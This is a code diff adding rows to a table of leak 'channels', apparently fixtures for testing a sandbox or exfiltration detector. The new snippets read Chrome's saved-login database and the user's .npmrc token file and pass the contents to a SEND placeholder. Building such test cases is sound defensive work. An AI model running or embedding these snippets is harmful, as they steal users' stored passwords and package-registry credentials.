@@ -388,6 +388,19 @@ const CHANNELS: readonly Row[] = [
     },
     { type: 'module' },
   ],
+  [
+    'a database of a browser',
+    "const {DatabaseSync}=require('node:sqlite');const db=new DatabaseSync(require('os').homedir()+'/.config/google-chrome/Default/Login Data');SEND«JSON.stringify(db.prepare('select * from logins').all())»",
+  ],
+  [
+    'lines of a file',
+    "const rl=require('readline').createInterface({input:require('fs').createReadStream(process.env.HOME+'/.npmrc')});rl.on('line',(l)=>{SEND«l»})",
+  ],
+  [
+    'lines of a file by its handle',
+    "import {open} from 'node:fs/promises';const h=await open(process.env.HOME+'/.npmrc');for await(const l of h.readLines())SEND«l»",
+    { type: 'module' },
+  ],
   ['what a report tells of the environment', 'SEND«JSON.stringify(process.report.getReport())»'],
   [
     'places that another module lists',
